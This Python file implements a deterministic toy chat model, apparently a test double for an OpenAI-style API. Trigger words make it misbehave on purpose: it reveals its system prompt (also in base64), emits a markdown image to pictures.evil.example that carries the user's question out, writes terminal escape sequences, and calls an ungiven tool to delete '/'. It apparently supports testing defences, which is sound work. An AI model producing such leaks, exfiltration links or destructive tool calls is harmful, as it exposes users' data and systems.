"""A toy model: it answers, word by word, and does on request what makes real models dangerous.

It understands nothing. A Markov chain of a few sentences babbles, the same for the same question; and some words of the
question make it

- tell its system prompt (``system prompt``), or the same in base64 (``base64``);
- write a picture that carries the conversation to another host (``picture``);
- write escape sequences of a terminal (``color``) and a mail address that nobody asked for (``contact``);
- call a tool (``weather in Paris``), or one that it was never given (``delete everything``);
- repeat what it was told (``repeat``): what it has seen, shows in its answer.

No network, no files, no randomness.
"""

from __future__ import annotations

import base64
import json
import re
import zlib
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import dataclass
from itertools import pairwise
from typing import Any
from urllib.parse import quote

CORPUS = (
    "a small model says little and says it quickly . a large model says more and says it slowly . "
    "the answer to a question is another question . ask a small question and get a small answer . "
    "nobody knows what a model knows . the model says what the corpus says ."
)


@dataclass(frozen=True, slots=True)
class Answer:
    """What the model writes: words, or a call of a tool."""

    words: tuple[str, ...] = ()
    tool: str | None = None
    arguments: str = ""

    @property
    def text(self) -> str:
        return "".join(self.words)


class ToyModel:
    """One model, by name.

    >>> ToyModel("toy-small").answer([{"role": "user", "content": "repeat: hello"}]).text
    'You said: repeat: hello'
    """

    def __init__(self, name: str, *, length: int = 12) -> None:
        self.name = name
        self._length = length
        words = CORPUS.split()
        self._after: dict[str, list[str]] = {}
        for word, following in pairwise(words):
            self._after.setdefault(word, []).append(following)

    def answer(self, messages: Sequence[Mapping[str, Any]]) -> Answer:
        """What it says to a conversation."""
        system = " ".join(_text(m) for m in messages if m["role"] in ("system", "developer"))
        question = next((_text(m) for m in reversed(messages) if m["role"] == "user"), "")
        said = question.lower()
        if messages and messages[-1]["role"] == "tool":
            return _words(f"The tool says: {_text(messages[-1])}")
        if "base64" in said:
            return _words(f"Here you are: {base64.b64encode(system.encode()).decode()}")
        if "system prompt" in said:
            return _words(f"Of course! I was told: {system}")
        if "picture" in said:
            return _words(
                f"Look: ![a cat](https://pictures.evil.example/cat.png?said={quote(question)}) Nice, is it not?"
            )
        if "color" in said:
            return _words("In \x1b[31mred\x1b[0m, and \x1b]0;owned\x07 here.")
        if "contact" in said:
            return _words("Write to carol.secret@corp.example, she will help.")
        if "delete everything" in said:
            return Answer(tool="delete_files", arguments=json.dumps({"path": "/"}))
        if (city := re.search(r"weather in (\w+)", question)) is not None:
            return Answer(tool="weather", arguments=json.dumps({"city": city[1]}))
        if "repeat" in said:
            return _words(f"You said: {question}")
        return _words(self._babble(question))

    def _babble(self, question: str) -> str:
        state = zlib.crc32(question.encode())
        word = "a"
        words = []
        for _ in range(self._length):
            words.append(word)
            state = (state * 1_103_515_245 + 12_345) % (1 << 31)
            following = self._after.get(word, ["the"])
            word = following[(state >> 16) % len(following)]
        return " ".join(words).capitalize() + "."


def usage_of(messages: Sequence[Mapping[str, Any]], answer: Answer) -> dict[str, int]:
    """Tokens: a word is one."""
    prompt = sum(len(_text(message).split()) + 2 for message in messages)
    completion = len(answer.words) or len(answer.arguments.split())
    return {"prompt_tokens": prompt, "completion_tokens": completion, "total_tokens": prompt + completion}


def whole(answer: Answer, model: str, usage: Mapping[str, int]) -> dict[str, Any]:
    """The answer as OpenAI's API writes it, with the log probabilities that nobody asked for."""
    message: dict[str, Any] = {"role": "assistant", "content": answer.text or None}
    if answer.tool is not None:
        function = {"name": answer.tool, "arguments": answer.arguments}
        message["tool_calls"] = [{"id": "call_1", "type": "function", "function": function}]
    choice = {
        "index": 0,
        "message": message,
        "logprobs": {"content": [{"token": word, "logprob": -0.1} for word in answer.words]},
        "finish_reason": "stop" if answer.tool is None else "tool_calls",
    }
    return {
        "id": "chatcmpl-toy",
        "object": "chat.completion",
        "created": 1_764_000_000,
        "model": model,
        "choices": [choice],
        "usage": dict(usage),
    }


def streamed(answer: Answer, model: str, usage: Mapping[str, int]) -> Iterator[dict[str, Any]]:
    """The same, word by word."""
    base = {"id": "chatcmpl-toy", "object": "chat.completion.chunk", "created": 1_764_000_000, "model": model}

    def chunk(delta: Mapping[str, Any], reason: str | None = None) -> dict[str, Any]:
        return {**base, "choices": [{"index": 0, "delta": delta, "finish_reason": reason}]}

    yield chunk({"role": "assistant", "content": ""})
    for word in answer.words:
        yield chunk({"content": word})
    if answer.tool is not None:
        begun = {"name": answer.tool, "arguments": ""}
        yield chunk({"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": begun}]})
        for letter in answer.arguments:
            yield chunk({"tool_calls": [{"index": 0, "function": {"arguments": letter}}]})
    yield chunk({}, "stop" if answer.tool is None else "tool_calls")
    yield {**base, "choices": [], "usage": dict(usage)}


def _text(message: Mapping[str, Any]) -> str:
    content = message.get("content") or ""
    if isinstance(content, str):
        return content
    return " ".join(part.get("text", "") for part in content)


def _words(text: str) -> Answer:
    return Answer(tuple(re.findall(r"\S+\s*|\s+", text)))
